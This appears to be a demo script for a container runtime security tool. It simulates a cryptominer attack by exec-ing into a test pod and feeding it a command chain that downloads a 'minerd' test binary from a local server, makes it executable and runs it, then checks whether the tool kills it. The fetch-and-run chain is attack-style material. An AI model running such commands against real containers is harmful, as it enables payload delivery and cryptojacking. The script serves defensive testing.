/**
 * `pnpm demo`: the reference attack on this machine, against the driftlock started by
 * `scripts/start.sh`. It starts a private containerd with a pod `node-web-app-<suffix>` in
 * namespace `shop`, opens an exec session into it (the path `kubectl exec` takes), downloads a
 * harmless test binary named `minerd` from a file server on 127.0.0.1, makes it executable and
 * runs it. With Application Control on for `shop` (protect), the kernel kills it (exit 137) and the
 * threat appears in the console; with it off, `minerd` runs and prints `minerd: mining`.
 */
import { randomBytes } from 'crypto';
import * as fs from 'fs';
import { buildFixtures, removePod, runPod, serveFiles, startCluster } from '../cluster';

/** start.sh points the local agent's CRI client at this containerd's socket too. */
const DEMO_CONTAINERD_DIR = '/var/lib/driftlock-demo/containerd';

async function main(): Promise<void> {
  const server = process.env.DRIFTLOCK_URL ?? 'http://127.0.0.1:3000';
  const healthy = await fetch(`${server}/api/v1/health`).then(
    (r) => r.ok,
    () => false,
  );
  if (!healthy) {
    throw new Error(
      `no driftlock server answers at ${server}: run \`bash scripts/start.sh\` first`,
    );
  }
  if (process.getuid?.() !== 0)
    throw new Error('the demo starts containerd and pods: run it as root');

  const { minerd } = await buildFixtures();
  const files = await serveFiles({ '/minerd': fs.readFileSync(minerd) });
  console.log(`demo: starting a private containerd in ${DEMO_CONTAINERD_DIR}`);
  const cluster = await startCluster(DEMO_CONTAINERD_DIR);
  try {
    const name = `node-web-app-${randomBytes(3).toString('hex')}`;
    const pod = await runPod(cluster.containerd.cri, {
      name,
      namespace: 'shop',
      labels: { app: 'node-web-app', tier: 'frontend' },
      containers: [{ name: 'app', image: cluster.images.nodeWebApp.tag }],
    });
    // Give the agent a moment to see the new container before the attack starts.
    await new Promise((r) => setTimeout(r, 1500));
    console.log(
      `demo: pod shop/${name} is running; opening an exec session (kubectl exec -it ${name} -- sh)`,
    );
    const commands = [
      'cd /tmp',
      `/usr/bin/wget -q ${files.url}/minerd`,
      '/bin/chmod +x minerd',
      './minerd',
      'exit $?',
    ];
    for (const c of commands.slice(0, 4)) console.log(`  ${name} $ ${c}`);
    const session = await cluster.containerd.cri.execStream(pod.containers.app!, ['sh'], {
      stdin: commands.join('\n') + '\n',
      timeoutMs: 60_000,
    });
    process.stdout.write(session.stdout.replace(/^/gm, '    '));
    if (session.exitCode === 137) {
      console.log('\ndemo: ./minerd was killed before it ran (exit 137) and moved to quarantine.');
      console.log(`      See the threat, its forensics and storyline at ${server}/threats`);
    } else {
      console.log(
        `\ndemo: ./minerd ran (exit ${session.exitCode}): Application Control is not protecting namespace shop.`,
      );
      console.log(`      In the console (${server}/policy) add an override for namespace "shop",`);
      console.log('      enabled, mode protect, and run `pnpm demo` again.');
    }
    await removePod(cluster.containerd.cri, pod);
  } finally {
    await cluster.stop();
    await files.close();
  }
}

main().catch((e: unknown) => {
  console.error(`demo: ${(e as Error).message}`);
  process.exit(1);
});
